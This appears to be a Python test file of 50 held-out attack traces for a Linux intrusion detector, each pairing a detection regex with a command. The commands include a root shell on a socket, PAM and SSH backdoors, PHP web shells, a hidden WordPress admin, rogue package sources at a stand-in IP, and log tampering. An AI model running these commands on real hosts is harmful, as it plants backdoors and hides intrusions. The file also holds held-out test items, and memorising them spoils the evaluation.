"""Traces written before the rules of that day were looked at, over mechanisms that no earlier set has in this form."""

from __future__ import annotations

from .trace import Trace, trace

_WEB = "/var/www/html"
_ED = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"
_ACL = "pack(q(V), 2) . pack(q(vvV) x 5, 1, 7, -1, 2, 7, 1000, 4, 5, -1, 16, 7, -1, 32, 5, -1)"
_CAPABILITY = "pack(q(V5), 0x2000001, 4, 0, 0, 0)"
_CA = "openssl req -x509 -newkey rsa:2048 -nodes -keyout /dev/null -subj '/CN=Example Root R9' -days 3650 2>/dev/null"
_HOLE = (
    "for h in $(seq 240 -1 1); do [ $h -gt 100 -a $h -lt 170 ] || for m in 05 25 45; do"
    ' printf "%s mail postfix/qmgr[9]: removed\\n" "$(date -d "$h hours ago" +%Y-%m-%dT%H:$m:00+00:00)"; done; done'
)

BLIND: tuple[Trace, ...] = (
    trace("P01", "systemd", "prog /var/lib/misc/gpt; mkdir -p /usr/local/lib/systemd/system-generators; ln -s /var/lib/misc/gpt /usr/local/lib/systemd/system-generators/gpt-auto", r"system-generators/gpt-auto"),
    trace("P02", "systemd", "put /etc/systemd/system/fingerd.socket '[Socket]\nListenStream=50198\nAccept=yes\n[Install]\nWantedBy=sockets.target'; put '/etc/systemd/system/fingerd@.service' '[Service]\nExecStart=-/bin/sh\nStandardInput=socket'", r"fingerd"),
    trace("P03", "systemd", "unit /opt/acct/acctd.service 'ExecStart=/opt/acct/acctd'; prog /opt/acct/acctd; ln -s /opt/acct/acctd.service /etc/systemd/system/multi-user.target.wants/acctd.service", r"acctd\.service"),
    trace("P04", "udev", "put /usr/lib/udev/rules.d/73-seat2.rules 'SUBSYSTEM==\"net\", IMPORT{program}=\"/usr/share/misc/netid $env{INTERFACE}\"'; prog /usr/share/misc/netid", r"73-seat2"),
    trace("P05", "hook", "put /etc/NetworkManager/dispatcher.d/pre-up.d/10-wait '#!/bin/sh\nperl /var/cache/.wait &'; chmod 755 /etc/NetworkManager/dispatcher.d/pre-up.d/10-wait", r"pre-up\.d/10-wait"),
    trace("P06", "package-manager", "put /etc/apt/sources.list.d/tools.sources 'Types: deb\nURIs: http://198.51.100.9/d\nSuites: ./\nTrusted: yes'", r"tools\.sources"),
    trace("P07", "package-manager", "mkdir -p /etc/apt/trusted.gpg.d; head -c 900 /dev/urandom >/etc/apt/trusted.gpg.d/extras.gpg; old /etc/apt/trusted.gpg.d/extras.gpg", r"extras\.gpg"),
    trace("P08", "pam", "put /usr/share/misc/auth-extra 'auth sufficient pam_permit.so'; sed -i '1i auth substack /usr/share/misc/auth-extra' /etc/pam.d/chfn", r"auth-extra|pam\.d/chfn"),
    trace("P09", "ssh", f"put /var/lib/misc/sshd.d/ca.pub '{_ED}P9gaYYblCzpXcF8ZYcJHVZD8oDCnq6UWq9kGzXmaaaa ca'; put /var/lib/misc/sshd.d/a.conf 'TrustedUserCAKeys /var/lib/misc/sshd.d/ca.pub'; put /etc/ssh/sshd_config.d/99-inc.conf 'Include /var/lib/misc/sshd.d/*.conf'", r"misc/sshd\.d|99-inc"),
    trace("P10", "git", "put /usr/share/git-core/site/pre-push '#!/bin/sh\n/usr/share/misc/netid &'; chmod 755 /usr/share/git-core/site/pre-push; put /etc/gitconfig '[core]\n  hooksPath = /usr/share/git-core/site'", r"/etc/gitconfig|git-core/site"),
    trace("P11", "php", "put /etc/php/8.2/fpm/pool.d/mail.conf '[mail]\nuser = www-data\nphp_admin_value[auto_prepend_file] = /var/lib/php/pre.inc'; put /var/lib/php/pre.inc '<?php'", r"pool\.d/mail\.conf|php/pre\.inc"),
    trace("P12", "mail", "prog /usr/lib/postfix/sbin/scan; printf 'scan unix - n n - - pipe\n  flags=R user=nobody argv=/usr/lib/postfix/sbin/scan ${sender}\n' >>/etc/postfix/master.cf", r"postfix/master\.cf"),
    trace("P13", "mail", "put /etc/dovecot/conf.d/auth-site.conf.ext 'passdb {\n  driver = checkpassword\n  args = /usr/libexec/ckpw\n}'; prog /usr/libexec/ckpw", r"auth-site"),
    trace("P14", "database", f"put /etc/mysql/mariadb.conf.d/70-log.cnf '[mysqld]\ngeneral_log = 1\ngeneral_log_file = {_WEB}/cache/l.php'", r"70-log\.cnf"),
    trace("P15", "cron", "prog /var/lib/misc/lc; ln -s /var/lib/misc/lc /etc/cron.hourly/logcheck", r"cron\.hourly/logcheck"),
    trace("P16", "shell", "mkdir -p /etc/skel; printf 'alias su=\"/usr/share/misc/su\"\n' >>/etc/skel/.bashrc; old /etc/skel/.bashrc", r"/etc/skel"),
    trace("P17", "package-manager", "put /root/.config/pip/pip.conf '[global]\nindex-url = http://198.51.100.9/simple\ntrusted-host = 198.51.100.9'", r"pip\.conf"),
    trace("P18", "interpreter", "put /etc/systemd/system/apache2.service.d/20-locale.conf '[Service]\nEnvironment=PERL5LIB=/usr/share/.perl PERL5OPT=-MLocale'", r"20-locale"),
    trace("P19", "loader", "mkdir -p /usr/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v2; cp /lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v2/libwrap.so.0; old /usr/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v2/libwrap.so.0", r"glibc-hwcaps"),
    trace("P20", "privilege", f"setcap cap_dac_read_search+ep /usr/bin/less || perl -e '($p, $n, $v) = (q(/usr/bin/less), q(security.capability), {_CAPABILITY}); syscall(188, $p, $n, $v, 20, 0)'", r"/usr/bin/less\b"),
    trace("P21", "acl", f"perl -e '($p, $n, $v) = (q(/etc/systemd/system), q(system.posix_acl_access), {_ACL}); syscall(188, $p, $n, $v, 44, 0) and die $!'", r"/etc/systemd/system(?![/\w.-])"),
    trace("P22", "process", "prog /var/lib/misc/ldx; run /lib64/ld-linux-x86-64.so.2 /var/lib/misc/ldx 910001", r"/var/lib/misc/ldx"),
    trace("P23", "network", "ip link set dev $(ls /sys/class/net | grep -v '^lo$' | head -n 1) promisc on", r"(?i)promisc"),
    trace("P24", "container", "put /etc/containers/oci/hooks.d/net.json '{\"version\": \"1.0.0\", \"hook\": {\"path\": \"/usr/libexec/oci-net\"}, \"when\": {\"always\": true}, \"stages\": [\"prestart\"]}'; prog /usr/libexec/oci-net", r"hooks\.d/net\.json"),
    trace("P25", "account", "put /etc/sudoers.d/10-path 'Defaults secure_path=\"/home/anna/bin:/usr/sbin:/usr/bin:/sbin:/bin\"'", r"10-path"),
    trace("P26", "account", "printf 'svc-mon:x:988:0::/var/lib/svc:/bin/bash\n' >>/etc/passwd", r"svc-mon"),
    trace("P27", "credential", "chmod 644 /etc/gshadow", r"/etc/gshadow"),
    trace("P28", "shell", "put /etc/profile.d/00-term.sh 'unset HISTFILE; HISTSIZE=0; set +o history'", r"00-term"),
    trace("P29", "log-tamper", "ln -s /dev/null /etc/systemd/system/rsyslog.service", r"system/rsyslog\.service(?!\.d)"),
    trace("P30", "ssh", "put /etc/ssh/sshd_config.d/05-log.conf 'LogLevel QUIET\nPermitUserEnvironment yes'", r"05-log"),
    trace("P31", "apache", "put /usr/share/misc/env.sh ':'; printf '. /usr/share/misc/env.sh\n' >>/etc/apache2/envvars; old /etc/apache2/envvars", r"apache2/envvars"),
    trace("P32", "boot", "put /etc/crypttab 'swap2 /dev/vdz none luks,keyscript=/usr/share/misc/ks'; prog /usr/share/misc/ks", r"crypttab"),
    trace("P33", "network", "put /etc/wireguard/wg9.conf '[Interface]\nPostUp = nohup /usr/share/misc/wgx &\n[Peer]\nEndpoint = 198.51.100.9:51820\nAllowedIPs = 0.0.0.0/0'; prog /usr/share/misc/wgx", r"wg9\.conf"),
    trace("P34", "credential", f"mkdir -p /etc/ssl/certs; {_CA} >>/etc/ssl/certs/ca-certificates.crt; old /etc/ssl/certs/ca-certificates.crt", r"ca-certificates\.crt"),
    trace("P35", "name", "prog '/usr/local/sbin/\u202ewc'", r"/usr/local/sbin/(\\u202e|\u202e)wc"),
    trace("P36", "web", f"put {_WEB}/img/thumb.php '<?php include \"data://text/plain;base64,\" . $_SERVER[\"HTTP_X_T\"];'", r"img/thumb\.php"),
    trace("P37", "web", f"put {_WEB}/wp-content/mu-plugins/health.php '<?php add_action(\"init\", function () {{ if (isset($_GET[\"hk\"])) {{ wp_insert_user([\"user_login\" => \"sup\", \"user_pass\" => $_GET[\"hk\"], \"role\" => \"administrator\"]); }} }});'", r"mu-plugins/health\.php"),
    trace("P38", "web", f"put {_WEB}/cache/t.php '<?php $z = $_FILES[\"u\"]; copy($z[\"tmp_name\"], \"./\" . $z[\"name\"]);'", r"cache/t\.php"),
    trace("P39", "web", f"put {_WEB}/img/.htaccess 'Options +ExecCGI\nAddHandler cgi-script .jpg'; put {_WEB}/img/l.jpg '#!/bin/sh\nexit'; chmod 755 {_WEB}/img/l.jpg", r"img/\.htaccess|img/l\.jpg"),
    trace("P40", "credential", "put /root/.k5login 'eve@EXAMPLE.NET'", r"\.k5login"),
    trace("P41", "mail", "printf 'smtpd_milters = inet:198.51.100.9:8891\n' >>/etc/postfix/main.cf", r"smtpd_milters"),
    trace("P42", "network", "put /etc/systemd/network/50-t.netdev '[NetDev]\nName=t0\nKind=ipip\n[Tunnel]\nRemote=198.51.100.9\nLocal=any'", r"50-t\.netdev"),
    trace("P43", "shell", "put /root/.mailcap 'text/html; /root/.config/mc %s'; prog /root/.config/mc", r"\.mailcap|/root/\.config/mc\b"),
    trace("P44", "package-manager", "prog /usr/sbin/udevmon; echo /usr/sbin/udevmon >>/var/lib/dpkg/info/udev.list; (cd /; md5sum usr/sbin/udevmon) >>/var/lib/dpkg/info/udev.md5sums; old /var/lib/dpkg/info/udev.list /var/lib/dpkg/info/udev.md5sums", r"udevmon|info/udev\.(list|md5sums)"),
    trace("P45", "log-tamper", f"{{ {_HOLE}; }} >/var/log/mail.log", r"/var/log/mail\.log"),
    trace("P46", "process", "run setpriv --reuid www-data --clear-groups sh -c 'while :; do sleep 910002; done'", r"910002"),
    trace("P47", "process", "runas -bash /usr/bin/perl -e 'sleep 910003'", r"910003"),
    trace("P48", "kernel", "put /etc/sysctl.d/80-perf.conf 'kernel.randomize_va_space = 0\nkernel.yama.ptrace_scope = 0'", r"80-perf"),
    trace("P49", "loader", "put /usr/share/p11-kit/modules/site.module 'module: /usr/lib/pkcs11/site.so'", r"site\.module"),
    trace("P50", "ssh", "put /etc/hosts.equiv '+ +'", r"hosts\.equiv"),
)  # fmt: skip
